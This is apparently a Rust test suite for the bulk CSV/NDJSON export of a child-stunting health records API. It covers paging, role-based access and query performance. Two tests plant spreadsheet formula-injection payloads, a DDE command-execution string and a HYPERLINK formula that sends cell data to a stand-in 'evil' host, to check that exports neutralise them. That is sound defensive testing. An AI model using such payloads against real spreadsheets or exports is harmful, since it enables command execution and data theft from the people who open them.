//! Bulk export (`GET /api/v1/exports/{kind}`): everything in the caller's scope, streamed a page
//! at a time, as NDJSON or CSV; no page boundary loses or repeats a record; dashboards get none.

use reqwest::{Method, StatusCode};
use serde_json::Value;
use stunting_api::domain::Role;

use crate::common::app::children::{BIRTH, date};
use crate::common::{TestApp, problem};

const VILLAGE: &str = "14.01.01.2009";

async fn export(app: &TestApp, token: &str, path: &str, accept: &str) -> (StatusCode, String) {
    let response = app.request(Method::GET, path, Some(token)).header("accept", accept).send().await.unwrap();
    (response.status(), response.text().await.unwrap())
}

#[tokio::test]
async fn every_measurement_of_the_scope_arrives_once_across_pages() {
    let app = TestApp::spawn().await;
    let token = app.token_for(Role::Officer, Some("14.01")).await;
    let (a, b) = (app.child_in(&token, VILLAGE).await, app.child_in(&token, "14.01.01.2010").await);
    // 1,100 weighings (more than a page of 1,000), each under its own id.
    let mut csv = String::from("id,child_id,measured_on,length_cm,position,place\n");
    for i in 0..1_100 {
        let child = if i % 2 == 0 { &a } else { &b };
        let on = date(BIRTH) + chrono::Days::new(1 + (i / 2) as u64);
        csv.push_str(&format!("{},{},{on},60.0,lying,posyandu\n", uuid::Uuid::new_v4(), child["id"].as_str().unwrap()));
    }
    let imported = app
        .request(Method::POST, "/api/v1/imports/measurements", Some(&token))
        .text("text/csv", csv)
        .send()
        .await
        .unwrap();
    let summary: Value = imported.json().await.unwrap();
    assert_eq!(summary["created"], 1_100, "{summary}");

    let (status, ndjson) = export(&app, &token, "/api/v1/exports/measurements", "application/x-ndjson").await;
    assert_eq!(status, 200);
    let lines: Vec<Value> = ndjson.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let mut ids: Vec<&str> = lines.iter().map(|l| l["id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), 1_100);
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), 1_100, "a record came twice");
    assert!(ndjson.ends_with('\n'));

    let (status, csv) = export(&app, &token, "/api/v1/exports/measurements?region=14.01.01.2009", "text/csv").await;
    assert_eq!(status, 200);
    let mut rows = csv.lines();
    assert!(rows.next().unwrap().starts_with("id,child_id,village_code,measured_on,age_days,"));
    assert_eq!(rows.count(), 550);

    let period = "/api/v1/exports/measurements?from=2024-06-02&to=2024-06-11";
    let (_, ten_days) = export(&app, &token, period, "application/x-ndjson").await;
    assert_eq!(ten_days.lines().count(), 20);
}

#[tokio::test]
async fn children_export_as_csv_with_their_personal_fields_only_to_those_who_record_them() {
    let app = TestApp::spawn().await;
    let officer = app.token_for(Role::Officer, Some("14.01")).await;
    let stunted = app.child_in(&officer, VILLAGE).await;
    app.child_in(&officer, "14.01.01.2010").await;
    app.measure_at(&officer, &stunted, "2025-02-10", -2.5).await;

    let (status, csv) = export(&app, &officer, "/api/v1/exports/children", "text/csv").await;
    assert_eq!(status, 200);
    let mut rows = csv.lines();
    assert_eq!(
        rows.next().unwrap(),
        "id,village_code,sex,birth_date,name,mother_name,has_nik,posyandu_id,kia_book,version,created_at,updated_at"
    );
    assert_eq!(rows.filter(|r| r.contains("Siti Aminah")).count(), 2);

    let (status, cases) = export(&app, &officer, "/api/v1/exports/cases?from=2025-01-01", "text/csv").await;
    assert_eq!(status, 200);
    let mut rows = cases.lines();
    assert!(rows.next().unwrap().starts_with("id,child_id,village_code,status,severity,"), "{cases}");
    let row = rows.next().expect("the open case");
    assert!(row.contains(stunted["id"].as_str().unwrap()) && row.contains(",open,"), "{cases}");
    assert_eq!(rows.count(), 0);
    let (_, none) = export(&app, &officer, "/api/v1/exports/cases?to=2025-01-31", "application/x-ndjson").await;
    assert_eq!(none, "", "opened after the period");

    let cadre = app.token_for(Role::Cadre, Some(VILLAGE)).await;
    let (_, own) = export(&app, &cadre, "/api/v1/exports/children", "application/x-ndjson").await;
    assert_eq!(own.lines().count(), 1, "a cadre exports their own village");

    let analyst = app.token_for(Role::Analyst, Some("14.01")).await;
    let refused = app.request(Method::GET, "/api/v1/exports/children", Some(&analyst)).send().await.unwrap();
    problem(refused, StatusCode::FORBIDDEN).await;
    let elsewhere = app.token_for(Role::Officer, Some("62.03")).await;
    let refused =
        app.request(Method::GET, "/api/v1/exports/children?region=14.01", Some(&elsewhere)).send().await.unwrap();
    problem(refused, StatusCode::FORBIDDEN).await;
}

/// The first 1,000 days leave as they came in: screenings with their verdict, pregnancies with
/// what their visits and outcome add up to, TPK visits with their stage; a void is carried.
#[tokio::test]
async fn the_first_1000_days_export_by_kind_and_period_with_voids() {
    use serde_json::json;
    let app = TestApp::spawn().await;
    let officer = app.token_for(Role::Officer, Some("14.01")).await;
    let team = app.tpk_in(&officer, VILLAGE).await;
    let her = json!({"village_code": VILLAGE, "sex": "female", "birth_date": "2000-02-02", "name": "Nurhayati"});
    let her: Value = app.post_json("/api/v1/people", Some(&officer), &her).await.json().await.unwrap();
    let id = her["id"].as_str().unwrap();
    let screening = json!({"screened_on": "2024-10-01", "muac_cm": 22.0, "smokes": true});
    let path = format!("/api/v1/people/{id}/screenings");
    let screened: Value = app.post_json(&path, Some(&officer), &screening).await.json().await.unwrap();
    let voided = app
        .delete_json(
            &format!("{path}/{}", screened["id"].as_str().unwrap()),
            Some(&officer),
            None,
            &json!({"reason": "wrong scale"}),
        )
        .await;
    assert_eq!(voided.status(), StatusCode::OK);
    let pregnancy: Value = app
        .post_json(&format!("/api/v1/people/{id}/pregnancies"), Some(&officer), &json!({"lmp_on": "2025-01-06"}))
        .await
        .json()
        .await
        .unwrap();
    let pregnancy_id = pregnancy["id"].as_str().unwrap();
    let visit = json!({"visited_on": "2025-03-03", "examiner": "doctor", "muac_cm": 22.5, "iron_tablets": 30});
    let path = format!("/api/v1/pregnancies/{pregnancy_id}/anc-visits");
    assert_eq!(app.post_json(&path, Some(&officer), &visit).await.status(), StatusCode::CREATED);
    // Findings in a cadre's own words, which a spreadsheet would run.
    let findings = "@SUM(1+1)*cmd|' /C calc'!A0";
    let tpk = json!({"team_id": team["id"], "person_id": id, "visited_on": "2025-03-10", "referral": true,
        "findings": findings});
    assert_eq!(app.post_json("/api/v1/tpk-visits", Some(&officer), &tpk).await.status(), StatusCode::CREATED);

    let (status, csv) = export(&app, &officer, "/api/v1/exports/screenings", "text/csv").await;
    assert_eq!(status, 200);
    let mut rows = csv.lines();
    assert!(rows.next().unwrap().starts_with("id,person_id,village_code,screened_on,"), "{csv}");
    let row = rows.next().unwrap();
    assert!(row.contains(",kek;smoke,true,") && !row.ends_with(",,"), "the verdict and the void: {row}");
    let (_, ndjson) = export(&app, &officer, "/api/v1/exports/pregnancies", "application/x-ndjson").await;
    let exported: Value = serde_json::from_str(ndjson.lines().next().unwrap()).unwrap();
    assert_eq!(
        (&exported["id"], &exported["anc_contacts"], &exported["kek"]),
        (&pregnancy["id"], &json!(1), &json!(true))
    );
    let (_, later) =
        export(&app, &officer, "/api/v1/exports/pregnancies?from=2025-02-01", "application/x-ndjson").await;
    assert_eq!(later, "", "HPHT before the period");
    let (_, visits) = export(&app, &officer, "/api/v1/exports/tpk-visits", "application/x-ndjson").await;
    let exported: Value = serde_json::from_str(visits.lines().next().unwrap()).unwrap();
    assert_eq!((&exported["stage"], &exported["referral"]), (&json!("pregnant"), &json!(true)));

    exported_inert(&app, &officer, &["screenings", "pregnancies", "tpk-visits"]).await;
    let (_, visits) = export(&app, &officer, "/api/v1/exports/tpk-visits", "text/csv").await;
    assert_eq!(first_cell(&visits, "findings"), format!("'{findings}"));

    let analyst = app.token_for(Role::Analyst, Some("14.01")).await;
    for kind in ["screenings", "pregnancies", "tpk-visits"] {
        let refused =
            app.request(Method::GET, &format!("/api/v1/exports/{kind}"), Some(&analyst)).send().await.unwrap();
        problem(refused, StatusCode::FORBIDDEN).await;
    }
}

/// Every cell of a CSV a spreadsheet would run as a formula: one starting with `=`, `+`, `@`, a
/// tab or a carriage return, or with `-` unless it is a number.
pub(crate) fn formulas(csv: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cells = records.iter().flat_map(|r| r.iter().map(str::to_owned).collect::<Vec<_>>());
    cells
        .filter(|cell| match cell.as_bytes().first() {
            Some(b'=' | b'+' | b'@' | b'\t' | b'\r') => true,
            Some(b'-') => cell.parse::<f64>().is_err(),
            _ => false,
        })
        .collect()
}

/// The first row's cell in `column` of a CSV.
fn first_cell(csv: &str, column: &str) -> String {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let at = reader.headers().unwrap().iter().position(|h| h == column).unwrap();
    reader.records().next().unwrap().unwrap()[at].to_owned()
}

/// The CSV export of each kind answers and holds no cell a spreadsheet would run.
async fn exported_inert(app: &TestApp, token: &str, kinds: &[&str]) {
    for kind in kinds {
        let (status, csv) = export(app, token, &format!("/api/v1/exports/{kind}"), "text/csv").await;
        assert_eq!(status, 200);
        assert!(formulas(&csv).is_empty(), "{kind}: {:?}", formulas(&csv));
    }
}

#[tokio::test]
async fn text_that_a_spreadsheet_would_run_is_exported_inert() {
    let app = TestApp::spawn().await;
    let officer = app.token_for(Role::Officer, Some("14.01")).await;
    let hostile = "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")";
    let body = serde_json::json!({"village_code": VILLAGE, "sex": "female", "birth_date": BIRTH,
        "name": hostile, "mother_name": "+6281234567890"});
    let child: Value = crate::common::created(app.register_child(&officer, body).await).await;
    app.measure_at(&officer, &child, "2025-02-10", -2.5).await;

    let (status, csv) = export(&app, &officer, "/api/v1/exports/children", "text/csv").await;
    assert_eq!(status, 200);
    assert_eq!(first_cell(&csv, "name"), format!("'{hostile}"), "{csv}");
    assert_eq!(first_cell(&csv, "mother_name"), "'+6281234567890");
    exported_inert(&app, &officer, &["children", "measurements", "cases"]).await;
    // A negative z-score stays a number.
    let (_, measurements) = export(&app, &officer, "/api/v1/exports/measurements", "text/csv").await;
    assert!(first_cell(&measurements, "haz").parse::<f64>().unwrap() < -2.0, "{measurements}");
}

/// The plan PostgreSQL runs for a query with its parameters, as JSON (`EXPLAIN ANALYZE`).
#[derive(diesel::QueryableByName)]
struct Plan {
    #[diesel(sql_type = diesel::sql_types::Text, column_name = "QUERY PLAN")]
    plan: String,
}

/// Rows every scan of `table` in a plan returned, over all its loops.
fn rows_read(node: &Value, table: &str) -> f64 {
    let own = if node["Relation Name"] == table {
        node["Actual Rows"].as_f64().unwrap() * node["Actual Loops"].as_f64().unwrap()
    } else {
        0.0
    };
    let below = node["Plans"].as_array().map_or(0.0, |plans| plans.iter().map(|p| rows_read(p, table)).sum());
    own + below
}

/// A page of measurements reads no child before its position: a page late in a national export
/// once scanned from the scope's first child again (2.3 MB/s, issue 29). Sequential scans are
/// off so that the plan reads the children's index, as PostgreSQL does at national scale.
#[tokio::test]
async fn a_page_of_measurements_reads_the_children_from_its_position_on() {
    use diesel::sql_types::{Date, Integer, Nullable, Text, Uuid as SqlUuid};
    use diesel_async::{RunQueryDsl, SimpleAsyncConnection};
    use stunting_api::records::child::export::MeasurementExport;
    use stunting_api::records::export::Paged;

    use crate::imports::{eppgbm, import, summary};

    let app = TestApp::spawn().await;
    let token = app.token_for(Role::Officer, Some("14.01")).await;
    let children: Vec<(String, String)> =
        (0..600).map(|i| (uuid::Uuid::new_v4().to_string(), format!("Anak {i}"))).collect();
    let rows: Vec<_> = children.iter().map(|(id, name)| (id.as_str(), "", name.as_str(), "2024-09-02")).collect();
    let imported = import(&app, &token, "children", "", "text/csv", eppgbm(&rows)).await;
    let summary = summary(imported).await;
    assert_eq!(summary["created"], 600, "{summary}");

    // The 500th child in the export's order, and a page of 20 after its weighings.
    let (ndjson_status, ndjson) = export(&app, &token, "/api/v1/exports/measurements", "application/x-ndjson").await;
    assert_eq!(ndjson_status, 200);
    let position: Value = serde_json::from_str(ndjson.lines().nth(499).unwrap()).unwrap();
    let child: uuid::Uuid = position["child_id"].as_str().unwrap().parse().unwrap();
    let mut conn = app.pool.get().await.unwrap();
    conn.batch_execute("ANALYZE children; ANALYZE measurements; SET enable_seqscan = off").await.unwrap();
    let plan: Plan = diesel::sql_query(format!("EXPLAIN (ANALYZE, FORMAT JSON) {}", MeasurementExport::SQL))
        .bind::<Text, _>("0")
        .bind::<Text, _>(":")
        .bind::<Text, _>(VILLAGE)
        .bind::<SqlUuid, _>(child)
        .bind::<SqlUuid, _>(uuid::Uuid::max())
        .bind::<Nullable<Date>, _>(None::<chrono::NaiveDate>)
        .bind::<Nullable<Date>, _>(None::<chrono::NaiveDate>)
        .bind::<Integer, _>(20)
        .get_result(&mut conn)
        .await
        .unwrap();
    conn.batch_execute("RESET enable_seqscan").await.unwrap();
    let plan: Value = serde_json::from_str(&plan.plan).unwrap();
    // The 101 children from the position on, at most; 600 when the scan starts at the first.
    let children = rows_read(&plan[0]["Plan"], "children");
    assert!(children <= 101.0, "{children} children read for a page after the 500th: {plan:#}");
}
